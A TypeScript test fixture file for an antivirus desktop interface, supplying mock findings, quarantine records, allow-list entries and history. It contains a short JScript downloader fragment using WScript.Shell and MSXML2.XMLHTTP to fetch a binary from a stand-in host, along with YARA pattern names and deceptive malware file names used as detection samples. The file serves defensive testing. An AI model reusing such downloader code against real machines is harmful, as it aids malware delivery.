// What the fixtures answer to the calls about threats, the quarantine and the allow-list.
import type { AllowEntry } from '../../../src/shared/allow-entry.ts';
import type { EachOutcome } from '../../../src/shared/contract.ts';
import type { Finding, FindingState } from '../../../src/shared/finding.ts';
import type { HistoryEvent } from '../../../src/shared/history-event.ts';
import type { FindingExplanation } from '../../../src/shared/page-documents.ts';
import type { VaultRecord } from '../../../src/shared/vault-record.ts';
import type { FixtureAnswers } from '../fixture-transport.ts';
import { finding, findings, now } from '../fixtures.ts';

const hour = 3600;
const day = 24 * hour;

/** Open ones only in the states in which something waits. */
function findingsIn(state: string): readonly Finding[] {
  if (state === 'empty') return [];
  if (state !== 'threat') return findings.filter((one) => one.state !== 'open');
  const more = Array.from({ length: 9 }, (_none, index) =>
    finding({
      id: 30 + index,
      path: `/home/ada/Downloads/2026-11/bundle-${index + 1}/Rechnung_${4711 + index}_Dringend_Bitte_Prüfen.pdf.exe`,
      severity: (['critical', 'high', 'medium', 'low'] as const)[index % 4] ?? 'low',
      verdict: index % 4 === 3 ? 'suspicious' : 'infected',
      state: (['quarantined', 'dismissed', 'allowed', 'gone'] as const)[index % 4] ?? 'gone',
      vault_id: index % 4 === 0 ? '1'.repeat(32) : null,
      found_at: now - (index + 1) * 700,
      seen_at: now - (index + 1) * 600,
    }),
  );
  return [...findings, ...more].toSorted((one, other) => other.id - one.id);
}

const script =
  'var sh = new ActiveXObject("WScript.Shell");\r\nvar x = new ActiveXObject("MSXML2.XMLHTTP");\r\n' +
  'x.open("GET", "http://updates.example/a.bin", false);\r\nx.send();\r\n';

function context(
  pattern: string,
  text: string,
  at: number,
): FindingExplanation['detections'][number]['matches'][number] {
  const place = script.indexOf(text);
  const start = Math.max(0, place - 40);
  const bytes = script.slice(start, place + text.length + 44);
  return {
    pattern,
    offset: at,
    length: text.length,
    start: at - (place - start),
    bytes_hex: hexOf(bytes),
  };
}

/** The page has no Buffer. */
function hexOf(text: string): string {
  return Array.from(text, (character) => character.charCodeAt(0).toString(16).padStart(2, '0')).join('');
}

function explain(id: number, state: string): FindingExplanation {
  const one = findingsIn(state).find((known) => known.id === id) ?? finding({ id });
  const [clamav, yara] = finding().detections;
  if (clamav === undefined || yara === undefined) throw new Error('the fixture has two detections');
  const isThere = one.state !== 'gone';
  return {
    finding: one,
    detections: [
      {
        detection: {
          ...yara,
          meta: {
            ...yara.meta,
            author: 'Vedette',
            severity: 'high',
            reference: 'docs/rules/script-droppers.md',
            score: 75,
          },
        },
        meaning: 'A script that downloads a program and starts it.',
        source: 'Written by Vedette · https://attack.mitre.org/techniques/T1059/005/',
        matches: isThere
          ? [
              context('$run', 'WScript.Shell', 1204),
              context('$get', 'MSXML2.XMLHTTP', 1258),
              context('$url', 'x.send', 1370),
            ]
          : [],
      },
      {
        detection: clamav,
        meaning: 'ClamAV knows this script: a downloader (Js, Nemucod).',
        source: 'A database of clamd',
        matches: [],
      },
    ],
    bytes_problem: isThere ? '' : 'The file is no longer there, so its bytes cannot be shown.',
    engines: ['clamav', 'yara', 'hash'],
    elsewhere:
      id === 12
        ? [
            { path: '/home/ada/Desktop/invoice (copy).js', where: 'finding', state: 'open' },
            { path: '/tmp/.mail-8821/invoice.js', where: 'quarantine', state: 'stored' },
          ]
        : [],
    allowed_by: one.state === 'allowed' ? (entries[0] ?? null) : null,
    doubts:
      id === 9
        ? [
            'Only YARA-X found it; ClamAV looked at all of it and found nothing.',
            'The package nmap of this system owns a file of this name.',
          ]
        : [],
  };
}

const entries: readonly AllowEntry[] = [
  {
    id: 4,
    kind: 'hash',
    value: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
    reason: 'My own network.',
    author: 'user ada',
    created_at: now - 2 * day,
  },
  {
    id: 3,
    kind: 'path',
    value: '/home/ada/Documents/tools',
    reason: 'Security training, agreed with IT.',
    author: 'user ada',
    created_at: now - 12 * day,
  },
  {
    id: 1,
    kind: 'signature',
    value: 'PUA.Win.Packer.UPX-1',
    reason: '',
    author: 'user root',
    created_at: now - 40 * day,
  },
];

function record(changes: Partial<VaultRecord> = {}): VaultRecord {
  return {
    id: '0123456789abcdef0123456789abcdef',
    state: 'stored',
    problem: '',
    path: '/home/ada/Downloads/old/keygen\u202Egpj.exe',
    size_bytes: 48_213,
    sha256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
    mode: 0o755,
    uid: 1000,
    gid: 1000,
    mtime_ns: '1700000000000000000',
    detections: finding().detections,
    quarantined_at: now - 3 * hour,
    actor: 'policy',
    other_links: [],
    other_link_count: 0,
    ...changes,
  };
}

function recordsIn(state: string): readonly VaultRecord[] {
  if (state === 'empty') return [];
  const usual = [
    record(),
    record({
      id: '1'.repeat(32),
      path: '/home/ada/Documents/Bewerbung Müller/Lebenslauf_Anschreiben_Zeugnisse_gesamt_final_2.docm',
      size_bytes: 2_412_880,
      mode: 0o640,
      actor: 'user ada',
      quarantined_at: now - 2 * day,
      other_links: ['/home/ada/Dropbox/Lebenslauf.docm'],
      other_link_count: 2,
    }),
    record({
      id: '2'.repeat(32),
      path: '/tmp/.X11-lock/miner',
      size_bytes: 8_120_332,
      mode: 0o4755,
      uid: 0,
      gid: 0,
      quarantined_at: now - 9 * day,
    }),
  ];
  if (state !== 'degraded') return usual;
  return [
    record({
      id: '3'.repeat(32),
      state: 'damaged',
      problem: 'The content does not match its authentication tag.',
      path: '/home/ada/Downloads/setup.exe',
      detections: [],
    }),
    ...usual,
  ];
}

const happened: readonly (readonly [HistoryEvent['kind'], string, string, number])[] = [
  ['dismissed', 'user ada', 'Js.Downloader.Nemucod-9812 was left where it is.', 60],
  ['restored', 'user ada', '/home/ada/Downloads/invoice-2026-11 (final).docm.js was restored.', 120],
  ['quarantined', 'policy', '/home/ada/Downloads/invoice-2026-11 (final).docm.js was quarantined.', 200],
  ['detection', 'policy', 'Js.Downloader.Nemucod-9812, Script_Dropper_WScript were found.', 240],
];
const history: readonly HistoryEvent[] = happened.map(([kind, actor, text, ago], index) => ({
  number: 90 - index,
  at: now - ago,
  kind,
  actor,
  text,
  path: finding().path,
  details: {},
  previous_hash: '',
  hash: '',
}));

interface ListInput {
  readonly states: readonly FindingState[];
  readonly job: number | null;
  readonly before: number | null;
}

interface ActInput {
  readonly ids: readonly (number | string)[];
  readonly confirmed?: boolean;
}

/** The second of several fails, and 32 belongs to the operating system: both forms can be looked at. */
function outcomes({ ids, confirmed = true }: ActInput): { readonly outcomes: readonly EachOutcome[] } {
  return {
    outcomes: ids.map((id, index) => ({
      id,
      ok: index !== 1 && (id !== 32 || confirmed),
      text:
        id === 32
          ? 'It belongs to the operating system.'
          : index === 1
            ? 'Could not be moved: the disk is full.'
            : 'Done.',
      needs_confirmation: id === 32 && !confirmed,
      path: `/home/ada/Downloads/file-${id}.exe`,
    })),
  };
}

export const threatAnswers: FixtureAnswers = {
  'findings.list': ({ states, job: jobId, before }: ListInput, state) => {
    const all = jobId === null ? findingsIn(state) : findings.slice(0, 2);
    const wanted = all.filter((one) => states.length === 0 || states.includes(one.state));
    return { findings: before === null ? wanted : [], total: wanted.length };
  },
  'findings.explain': ({ id }: { readonly id: number }, state) => explain(id, state),
  'findings.act': outcomes,
  'allow.list': (_input, state) => ({ entries: state === 'empty' ? [] : entries }),
  'allow.add': () => ({ entry: entries[0], is_new: true }),
  'allow.remove': ({ ids }: { readonly ids: readonly number[] }) => ({
    removed: entries.filter(({ id }) => ids.includes(id)),
  }),
  'brake.release': () => ({ was_on: true }),
  'history.list': () => ({ events: history }),
  'quarantine.list': (_input, state) => ({ records: recordsIn(state) }),
  'quarantine.restore': outcomes,
  'quarantine.delete': outcomes,
  'quarantine.export': ({ ids, file }: { readonly ids: readonly string[]; readonly file: string }) => ({
    outcomes: ids.map((id) => ({ id, ok: true, text: '', needs_confirmation: false, path: file })),
  }),
  'desktop.save-as': ({ name }: { readonly name: string }) => ({ path: `/home/ada/${name}` }),
};
